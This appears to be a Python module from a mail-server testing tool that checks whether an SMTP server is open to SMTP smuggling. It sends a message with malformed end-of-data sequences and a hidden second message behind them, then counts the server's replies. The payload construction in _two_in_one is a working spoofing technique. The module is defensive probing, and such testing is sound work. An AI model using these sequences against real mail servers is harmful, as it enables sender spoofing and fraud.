"""SMTP smuggling, tried: does a second message hidden in DATA come out? Standard library of Python 3.9.

https://www.postfix.org/smtp-smuggling.html: a server that takes <LF>.<LF> for the end of DATA executes what follows as
commands, so that one member could send as any other. Both messages go to the discard recipient.
"""

from __future__ import annotations

import ssl
from typing import Any

from cjsm_connect.remote import handshake, smtp

ENDINGS = {
    "LF.LF": b"\n.\n",
    "LF.CRLF": b"\n.\r\n",
    "CRLF.LF": b"\r\n.\n",
    "CR.CR": b"\r.\r",
}
QUIET_SECONDS = 2


def smuggle(arguments: dict[str, Any]) -> dict[str, Any]:
    """As smtp.converse, with one of ENDINGS in the middle of the message and a second message behind it.

    `answers` counts the replies to the one message that was sent; more than one means that commands inside it were
    executed. Only an attempt whose DATA was permitted says anything.
    """
    outcome: dict[str, Any] = {"offers_starttls": None, "replies": [], "answers": None, "ending": arguments["ending"]}
    try:
        with smtp.opened(arguments, outcome) as session:
            _attempt(session, arguments, outcome)
    except smtp.Ended:
        pass
    except (smtp.CouldNotTell, handshake.Unprepared, ssl.SSLError, OSError) as error:
        outcome["could_not_tell"] = str(error)
    if outcome["answers"] is None:  # a closed port included
        outcome.setdefault("could_not_tell", "the message was never begun: %s" % _last(outcome["replies"]))
    return outcome


def _attempt(session: smtp.Session, arguments: dict[str, Any], outcome: dict[str, Any]) -> None:
    if not smtp.begin(session, arguments, outcome):
        return
    commands = ["MAIL FROM:<%s>" % arguments["sender"], "RCPT TO:<%s>" % arguments["recipients"][0], "DATA"]
    if all(session.ask(command) in (250, 354) for command in commands):
        session.send(_two_in_one(commands, ENDINGS[arguments["ending"]]), smtp.DATA_SECONDS)
        outcome["answers"] = 0
        _count_answers(session, outcome)


def _two_in_one(commands: list[str], ending: bytes) -> bytes:
    hidden = "\r\n".join([*commands, "Subject: smuggled", "", "This message must not exist.", ".", ""])
    return b"Subject: a test of SMTP smuggling\r\n\r\nThe visible message." + ending + hidden.encode("ascii")


def _count_answers(session: smtp.Session, outcome: dict[str, Any]) -> None:
    """Read until the server is quiet or hangs up."""
    seconds: float = smtp.DATA_SECONDS
    try:
        while outcome["answers"] < 8:
            session.read("message", seconds)
            outcome["answers"] += 1
            seconds = QUIET_SECONDS
    except smtp.CouldNotTell:
        if not outcome["answers"]:
            raise


def _last(replies: list[dict[str, Any]]) -> str:
    return "%(command)s: %(code)s %(text)s" % replies[-1] if replies else "no reply at all"
